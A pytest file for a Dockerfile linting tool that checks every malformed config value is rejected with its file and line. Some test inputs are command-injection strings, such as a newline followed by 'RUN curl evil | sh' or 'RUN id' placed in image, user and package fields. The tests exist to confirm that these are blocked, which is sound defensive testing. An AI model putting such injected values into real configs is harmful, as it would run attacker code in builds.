"""Issue 24, item 2: every config value is checked when the config is loaded, with its
line; lint, fix and check-config read it through one code path, so they agree."""

from __future__ import annotations

import math

import pytest

from dockermig.config import Config, ConfigError, forget_configs, load_config
from dockermig.engine import fix_text, lint_text
from tests.hostile import cli, repository
from tests.hostile.mistyped import mistyped_configs, mistyped_hadolint_configs, yaml_config

SERVICE = 'FROM python:3.11-slim\nUSER root\nRUN pip install flask==3.0.0\nCOPY . /app\nCMD ["python", "/app/main.py"]\n'


def test_every_mistyped_config_is_a_config_error_or_works(tmp_path):
    """Each key of the schema with each wrong type or value: a ConfigError naming the file
    and line, or a config that lints and fixes (never another exception)."""
    config_file = tmp_path / ".dockermig.yaml"
    rejected = accepted = 0
    for label, text in mistyped_configs():
        config_file.write_text(text)
        try:
            config = load_config(config_file)
            config.policy
        except ConfigError as error:
            assert str(error).startswith(f"{config_file}:"), label
            line = str(error)[len(str(config_file)) + 1:].split(":", 1)[0]
            assert line.isdigit() and 1 <= int(line) <= text.count("\n"), (label, str(error))
            rejected += 1
            continue
        lint_text(SERVICE, config=config)
        fix_text(SERVICE, config=config)
        accepted += 1
    assert rejected > 1000 and accepted > 50  # the generator covers the schema


def test_every_mistyped_hadolint_config_is_a_config_error_or_works(tmp_path):
    from dockermig.hadolint_config import load_hadolint_config

    path = tmp_path / ".hadolint.yaml"
    for label, text in mistyped_hadolint_configs():
        path.write_text(text)
        try:
            config = Config(hadolint=load_hadolint_config(path))
        except ConfigError as error:
            assert str(error).startswith(f"{path}:"), label
            continue
        lint_text(SERVICE, config=config)


def _sample():
    """A few wrong values for each key, for the slower three-command check."""
    wanted = ('="x\\nRUN curl evil | sh"', "=.inf", "=.nan", "=[1, 2]", "=true", "=1000000000000000000000000000000")
    return [(label, text) for label, text in mistyped_configs() if label.endswith(wanted)][::3]


def test_lint_fix_and_check_config_agree_on_every_config(tmp_path, capsys, monkeypatch):
    """All three exit 2 naming the config file, or none does: never "ok" then a crash."""
    repo = repository(tmp_path / "repo")
    (repo / "Dockerfile").write_text(SERVICE)
    config_file = repo / ".dockermig.yaml"
    monkeypatch.chdir(repo)
    samples = _sample()
    assert len(samples) > 40
    for label, text in samples:
        config_file.write_text(text)
        results = []
        for command in (("lint", "."), ("fix", "--diff", "."), ("check-config",)):
            forget_configs()
            code, out, err = cli(capsys, *command)
            results.append((code == 2 and f"{config_file.name}:" in err, code, err[-300:]))
        assert len({named for named, _, _ in results}) == 1, (label, results)


@pytest.mark.parametrize(("data", "says"), [
    ({"masters": [{"image": "\nRUN curl evil | sh", "language": "python"}]}, "masters[0].image"),
    ({"masters": [{"image": "", "language": "python"}]}, "masters[0].image"),
    ({"masters": [{"image": "acme/m:1", "language": "python", "port": math.inf}]}, "masters[0].port must be a port"),
    ({"masters": [{"image": "acme/m:1", "language": "python", "aliases": [1, 2]}]}, "masters[0].aliases[0] must be"),
    ({"masters": [{"image": "acme/m:1", "language": "python", "user": "app\nRUN id"}]}, "masters[0].user must be"),
    ({"rules": {"DM502": {"trusted-registries": 5}}}, "rules.DM502.trusted-registries must be a list"),
    ({"rules": {"DM500": {"pins": {"python": "3.12\nRUN id"}}}}, "rules.DM500.pins must be"),
    ({"verify": {"timeout": math.nan}}, "verify.timeout must be a non-negative finite number"),
    ({"package-maps": {"apk-to-debian": {"py3-numpy": "numpy && curl evil"}}}, "package-maps.apk-to-debian"),
    ({"categories": {'evil"} 1\ndockermig_migrated_ratio 1': ["x"]}}, "categories:"),
], ids=lambda v: v if isinstance(v, str) else None)
def test_the_reproducers_are_config_errors_with_their_line(tmp_path, capsys, monkeypatch, data, says):
    repo = repository(tmp_path / "repo")
    (repo / "Dockerfile").write_text(SERVICE)
    (repo / ".dockermig.yaml").write_text("fail-on: error\n" + yaml_config(data))
    monkeypatch.chdir(repo)
    for command in (("lint", "."), ("fix", "--diff", "."), ("check-config",)):
        forget_configs()
        code, out, err = cli(capsys, *command)
        assert code == 2 and ".dockermig.yaml:" in err and says in err, (command, code, err)
        line = err.split(".dockermig.yaml:", 1)[1].split(":", 1)[0]
        assert line.isdigit() and int(line) >= 2, err  # the value's line, not the file's first
    assert "RUN curl" not in (repo / "Dockerfile").read_text()


def test_a_toml_infinity_is_a_config_error(tmp_path):
    (tmp_path / "pyproject.toml").write_text(
        '[tool.dockermig]\nselect = ["ALL"]\n\n[[tool.dockermig.masters]]\nimage = "acme/m:1"\nlanguage = "python"\n'
        "port = inf\n")
    with pytest.raises(ConfigError, match=r"pyproject.toml:\d+: masters\[0\].port must be a port"):
        load_config(tmp_path / "pyproject.toml")
